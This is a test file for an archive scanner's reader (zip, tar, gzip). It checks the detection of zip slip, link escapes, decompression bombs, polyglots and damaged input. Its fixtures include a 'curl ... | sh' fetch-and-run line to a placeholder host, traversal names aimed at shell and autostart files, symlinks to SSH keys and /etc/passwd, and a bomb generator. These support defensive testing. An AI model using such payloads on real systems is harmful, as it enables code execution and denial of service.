import { constants, deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { InflateBudget } from '../../../src/analysis/archive/budget.js';
import { readArchive } from '../../../src/analysis/archive/read.js';
import type { ArchiveReport } from '../../../src/analysis/archive/types.js';
import { gzip, tar, zip } from '../../support/archives.js';

const text = (r: ArchiveReport, name: string) => {
  const t = r.texts.find((x) => x.name === name);
  return t ? new TextDecoder().decode(t.bytes) : undefined;
};
const kinds = (r: ArchiveReport) =>
  r.problems.map((p) => `${p.kind}${p.member !== undefined ? ` ${p.member}` : ''}`);
const status = (r: ArchiveReport) => Object.fromEntries(r.members.map((m) => [m.name, m.status]));

/** A raw deflate stream of `chunks` × 16 MiB of one letter, about 16 KB per chunk: built without the gigabyte. */
function letterBomb(chunks: number): Uint8Array {
  const piece = deflateRawSync(Buffer.alloc(16 << 20, 0x61), { finishFlush: constants.Z_SYNC_FLUSH });
  const last = deflateRawSync(Buffer.alloc(0));
  const out = new Uint8Array(piece.length * chunks + last.length);
  for (let i = 0; i < chunks; i++) out.set(piece, i * piece.length);
  out.set(last, piece.length * chunks);
  return out;
}

const ELF = Uint8Array.from([
  0x7f,
  0x45,
  0x4c,
  0x46,
  2,
  1,
  1,
  0,
  ...new Array(8).fill(0),
  2,
  0,
  0x3e,
  0,
  ...new Array(40).fill(0),
]);
const PNG = Uint8Array.from([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 1,
]);

describe('zip archives, read in memory', () => {
  it('lists members and returns text members for fact extraction, deflated or stored', async () => {
    const script = `#!/bin/sh\nset -e\n${'echo preparing the workspace\n'.repeat(10)}curl -fsSL https://get.example.invalid/x | sh\n`;
    const r = (await readArchive(
      'assets/tools.zip',
      zip([
        { name: 'install.sh', content: script },
        { name: 'README.md', content: '# Tools\n' },
        { name: 'docs/', mode: 0o040755 },
      ]),
    ))!;
    expect(r.format).toBe('zip');
    expect(r.readable).toBe(true);
    expect(status(r)).toEqual({ 'install.sh': 'text', 'README.md': 'text', 'docs/': 'empty' });
    expect(r.members.find((m) => m.name === 'install.sh')!.compressedSize).toBeLessThan(script.length);
    expect(text(r, 'install.sh')).toBe(script);
    expect(text(r, 'README.md')).toBe('# Tools\n');
    expect(r.problems).toEqual([]);
    expect(r.analysedShare).toBe(1);
  });

  it('recognises the zip family by magic bytes whatever the name, and by name when bytes are in front', async () => {
    const bytes = zip([{ name: 'a.py', content: 'print(1)\n' }]);
    expect((await readArchive('lib/tool.whl', bytes))!.format).toBe('zip');
    expect((await readArchive('notes.txt', bytes))!.format).toBe('zip');
    const stub = new Uint8Array(300).fill(0x41);
    const sfx = zip([{ name: 'a.py', content: 'print(1)\n' }], { prefix: stub });
    const r = (await readArchive('ext/plugin.crx', sfx))!;
    expect(text(r, 'a.py')).toBe('print(1)\n');
    expect(r.hiddenBehind).toBeUndefined();
  });

  it('reports names an extractor would write outside its folder (zip slip), with either separator', async () => {
    const r = (await readArchive(
      'a.zip',
      zip([
        { name: '../../.bashrc', content: 'x' },
        { name: '/etc/cron.d/job', content: 'x' },
        { name: 'ok/..\\..\\win.ini', content: 'x' },
        { name: 'C:/Users/Public/run.bat', content: 'x' },
        { name: 'fine/..name/notes.md', content: 'x' },
      ]),
    ))!;
    expect(kinds(r).filter((k) => k.startsWith('slip'))).toEqual([
      'slip ../../.bashrc',
      'slip /etc/cron.d/job',
      'slip ok/..\\..\\win.ini',
      'slip C:/Users/Public/run.bat',
    ]);
  });

  it('checks the name in the local header too, where streaming extractors read it', async () => {
    const r = (await readArchive(
      'a.zip',
      zip([{ name: 'notes.md', localName: '../../.profile', content: 'x' }]),
    ))!;
    expect(kinds(r)).toEqual(['name-mismatch notes.md', 'slip notes.md (also named ../../.profile)']);
  });

  it('reports symlink members that point outside the archive, not those that stay inside', async () => {
    const r = (await readArchive(
      'a.zip',
      zip([
        { name: 'keys', content: '/home/user/.ssh', mode: 0o120777 },
        { name: 'sub/up', content: '../../../etc', mode: 0o120777 },
        { name: 'sub/docs', content: '../docs', mode: 0o120777 },
      ]),
    ))!;
    expect(r.members.map((m) => [m.name, m.type, m.target])).toEqual([
      ['keys', 'symlink', '/home/user/.ssh'],
      ['sub/up', 'symlink', '../../../etc'],
      ['sub/docs', 'symlink', '../docs'],
    ]);
    expect(kinds(r)).toEqual(['link-escape keys', 'link-escape sub/up']);
  });

  it('reports encrypted members and counts their bytes as not analysed', async () => {
    const payload = 'x'.repeat(4000);
    const r = (await readArchive(
      'a.zip',
      zip([
        { name: 'payload.sh', content: payload, encrypted: true, method: 'stored' },
        { name: 'README.md', content: 'password: infected\n' },
      ]),
    ))!;
    expect(kinds(r)).toEqual(['encrypted payload.sh']);
    expect(status(r)['payload.sh']).toBe('encrypted');
    expect(r.texts.map((t) => t.name)).toEqual(['README.md']);
    expect(r.analysedShare).toBeLessThan(0.1);
  });

  it('stays bounded on a member that inflates to 1 GiB, and says it is a bomb', async () => {
    const raw = letterBomb(64);
    const started = performance.now();
    const r = (await readArchive(
      'assets/data.zip',
      zip([{ name: 'data.txt', raw, method: 8, declaredSize: 1 << 30 }]),
    ))!;
    expect(performance.now() - started).toBeLessThan(15_000);
    expect(kinds(r)).toContain('bomb data.txt');
    expect(r.inflated).toBeLessThanOrEqual(2 * 1024 * 1024);
    expect(r.texts[0]!.truncated).toBe(true);
    expect(r.texts[0]!.bytes.length).toBe(2 * 1024 * 1024);
  });

  it('catches a header that declares a small size for a member that inflates to 1 GiB', async () => {
    const r = (await readArchive(
      'a.zip',
      zip([{ name: 'notes.md', raw: letterBomb(64), method: 8, declaredSize: 120 }]),
    ))!;
    expect(r.problems.find((p) => p.kind === 'bomb')?.detail).toMatch(
      /declares 120 bytes but inflates to more/,
    );
    expect(r.inflated).toBeLessThanOrEqual(2 * 1024 * 1024);
  });

  it('reports members that share compressed data (a non-recursive zip bomb)', async () => {
    const members = [
      { name: 'a.txt', content: 'hello '.repeat(50) },
      ...Array.from({ length: 5 }, (_, i) => ({ name: `copy${i}.txt`, sameDataAs: 0 })),
    ];
    const r = (await readArchive('a.zip', zip(members)))!;
    expect(kinds(r)).toContain('bomb');
    expect(r.problems.find((p) => p.kind === 'bomb')!.detail).toMatch(/5 members share compressed data/);
  });

  it('lists 10,000 members within its bounds and reports one more as a bomb', async () => {
    const many = (n: number) =>
      zip(Array.from({ length: n }, (_, i) => ({ name: `f/${i}.txt`, content: `line ${i}\n` })));
    const started = performance.now();
    const r = (await readArchive('many.zip', many(10_000)))!;
    expect(performance.now() - started).toBeLessThan(30_000);
    expect(r.memberCount).toBe(10_000);
    expect(r.members.length).toBe(10_000);
    expect(r.texts.length).toBe(2_000);
    expect(kinds(r)).toEqual(['budget f/2000.txt']);
    expect(r.analysedShare).toBeLessThan(1);
    const more = (await readArchive('many.zip', many(10_001), { limits: { maxSniffs: 10 } }))!;
    expect(more.members.length).toBe(10_000);
    expect(more.problems.find((p) => p.kind === 'bomb')!.detail).toBe(
      'it declares 10001 members; only the first 10000 were listed',
    );
  });

  it('reads nested archives with prefixed member names, to a bounded depth', async () => {
    const inner = zip([{ name: 'run.sh', content: 'echo inner\n' }]);
    const mid = zip([{ name: 'inner.zip', content: inner, method: 'deflate' }]);
    const r = (await readArchive('outer.zip', zip([{ name: 'mid.zip', content: mid }])))!;
    expect(text(r, 'mid.zip!/inner.zip!/run.sh')).toBe('echo inner\n');
    expect(status(r)['mid.zip']).toBe('archive');
    expect(r.memberCount).toBe(3);
    const deeper = (await readArchive('outer.zip', zip([{ name: 'mid.zip', content: mid }]), {
      limits: { maxDepth: 2 },
    }))!;
    expect(kinds(deeper)).toEqual(['nested-depth mid.zip!/inner.zip']);
    expect(deeper.texts).toEqual([]);
  });

  it('says what it cannot read: damaged, cut short, unsupported methods, files larger than the read limit', async () => {
    const good = zip([{ name: 'a.md', content: 'hello\n'.repeat(40) }]);
    const cut = (await readArchive('a.zip', good.subarray(0, good.length - 30)))!;
    expect(cut.readable).toBe(false);
    expect(cut.problems[0]!.detail).toMatch(/no end of central directory/);
    const tooBig = (await readArchive('a.zip', good.subarray(0, 100), { size: good.length }))!;
    expect(tooBig.problems.map((p) => p.kind)).toEqual(['truncated']);
    const bzip = (await readArchive('a.zip', zip([{ name: 'x.sh', content: 'BZh9...', method: 12 }])))!;
    expect(bzip.problems.map((p) => p.detail)).toEqual([
      'it is compressed with bzip2 skillscan does not inflate',
    ]);
    const garbage = (await readArchive('a.zip', new TextEncoder().encode('not a zip at all\u0000\u0001')))!;
    expect(garbage.readable).toBe(false);
  });

  it('recognises binaries inside archives by their magic bytes', async () => {
    const r = (await readArchive(
      'a.zip',
      zip([
        { name: 'bin/helper', content: ELF },
        { name: 'logo.png', content: PNG },
        { name: 'x.pyc', content: Uint8Array.from([0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0]) },
      ]),
    ))!;
    expect(r.members.map((m) => [m.name, m.status, m.format, m.executable ?? false])).toEqual([
      ['bin/helper', 'binary', 'ELF executable', true],
      ['logo.png', 'media', 'PNG image', false],
      ['x.pyc', 'binary', 'Python bytecode', true],
    ]);
  });

  it('finds an archive appended to an image (a polyglot)', async () => {
    const r = (await readArchive(
      'assets/logo.png',
      zip([{ name: 'run.sh', content: 'echo hidden\n' }], { prefix: PNG }),
    ))!;
    expect(r.hiddenBehind).toBe('PNG image');
    expect(kinds(r)).toEqual(['polyglot']);
    expect(text(r, 'run.sh')).toBe('echo hidden\n');
  });

  it('draws on the scan budget shared between archives', async () => {
    const scan = new InflateBudget(1000);
    const a = zip([{ name: 'a.md', content: 'a'.repeat(900), method: 'stored' }]);
    expect((await readArchive('a.zip', a, { budget: scan }))!.problems).toEqual([]);
    const b = (await readArchive('b.zip', a, { budget: scan }))!;
    expect(b.problems.map((p) => p.kind)).toEqual(['budget']);
    expect(b.texts[0]!.bytes.length).toBe(100);
  });
});

describe('tar, tar.gz and gzip', () => {
  const files = [
    { name: 'pkg/install.sh', content: '#!/bin/sh\necho hi\n' },
    { name: 'pkg/link', type: '2' as const, linkname: '/etc/passwd' },
    { name: 'pkg/hard', type: '1' as const, linkname: '../outside' },
    { name: 'pkg/long', paxPath: '../../.config/autostart/x.desktop', content: '[Desktop Entry]\n' },
  ];

  it('lists tar members with links and pax names, and reports those that leave the folder', async () => {
    const r = (await readArchive('a.tar', tar(files)))!;
    expect(r.format).toBe('tar');
    expect(r.members.map((m) => [m.name, m.type])).toEqual([
      ['pkg/install.sh', 'file'],
      ['pkg/link', 'symlink'],
      ['pkg/hard', 'hardlink'],
      ['../../.config/autostart/x.desktop', 'file'],
    ]);
    expect(kinds(r)).toEqual([
      'link-escape pkg/link',
      'link-escape pkg/hard',
      'slip ../../.config/autostart/x.desktop',
    ]);
    expect(text(r, 'pkg/install.sh')).toBe('#!/bin/sh\necho hi\n');
  });

  it('reads a .tar.gz and a single gzip file', async () => {
    const r = (await readArchive('a.tgz', gzip(tar(files))))!;
    expect(r.format).toBe('tar.gz');
    expect(text(r, 'pkg/install.sh')).toBe('#!/bin/sh\necho hi\n');
    const single = (await readArchive('data/config.json.gz', gzip('{"a":1}\n')))!;
    expect(single.members.map((m) => m.name)).toEqual(['config.json']);
    expect(text(single, 'config.json')).toBe('{"a":1}\n');
  });

  it('stops a tar.gz that inflates past the budget and calls it a bomb', async () => {
    const started = performance.now();
    const bomb = gzip(tar([{ name: 'zeros.txt', content: new Uint8Array(64 << 20) }]));
    const r = (await readArchive('a.tar.gz', bomb))!;
    expect(performance.now() - started).toBeLessThan(20_000);
    expect(r.problems.some((p) => p.kind === 'bomb')).toBe(true);
    expect(r.inflated).toBeLessThanOrEqual(34 * 1024 * 1024);
  });

  it('reports a tar cut short and a damaged header without throwing', async () => {
    const t = tar(files);
    const damaged = t.slice();
    damaged[600] = 0x7a;
    damaged[1100] = 0x7a;
    const r = (await readArchive('a.tar', damaged))!;
    expect(r.problems.some((p) => p.kind === 'corrupt')).toBe(true);
    const cut = (await readArchive('a.tar', t.subarray(0, 700), { size: t.length }))!;
    expect(cut.problems.map((p) => p.kind)).toContain('truncated');
  });
});

describe('formats skillscan does not decompress', () => {
  const cases: Array<[string, number[], string]> = [
    ['a.7z', [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4], '7z'],
    ['a.rar', [...'Rar!\x1a\x07\x01\x00'].map((c) => c.charCodeAt(0)), 'rar'],
    ['a.tar.xz', [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4], 'xz'],
    ['a.bin', [...'BZh91AY&SY'].map((c) => c.charCodeAt(0)), 'bzip2'],
    ['a.zst', [0x28, 0xb5, 0x2f, 0xfd, 0, 0], 'zstd'],
  ];
  for (const [name, bytes, format] of cases) {
    it(`${format} is recognised and unreadable`, async () => {
      const r = (await readArchive(name, Uint8Array.from([...bytes, ...new Array(64).fill(7)])))!;
      expect([r.format, r.readable, r.analysedShare]).toEqual([format, false, 0]);
    });
  }

  it('text and executables are not archives', async () => {
    expect(await readArchive('a.zip.md', new TextEncoder().encode('# just text'))).toBeUndefined();
    expect(await readArchive('bin/tool', ELF)).toBeUndefined();
  });
});

describe('hostile bytes', () => {
  it('never throws and stays fast on random damage to zip, tar and gzip', async () => {
    let seed = 7;
    const rand = () => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed;
    };
    const samples = [
      zip([
        { name: 'a.sh', content: 'echo a\n'.repeat(30) },
        { name: 'b.md', content: '# b\n' },
        { name: 'c.zip', content: zip([{ name: 'd', content: 'x' }]) },
      ]),
      tar([
        { name: 'a.sh', content: 'echo a\n' },
        { name: 'l', type: '2', linkname: 'a.sh' },
      ]),
      gzip(tar([{ name: 'a.sh', content: 'echo a\n' }])),
    ];
    const started = performance.now();
    for (let i = 0; i < 600; i++) {
      const bytes = samples[i % samples.length]!.slice();
      for (let k = 0; k < 1 + (rand() % 8); k++) bytes[rand() % bytes.length] = rand() & 0xff;
      const cut = rand() % 4 === 0 ? bytes.subarray(0, rand() % bytes.length) : bytes;
      await readArchive(['a.zip', 'a.tar', 'a.tgz'][i % 3]!, cut);
    }
    expect(performance.now() - started).toBeLessThan(20_000);
  });
});
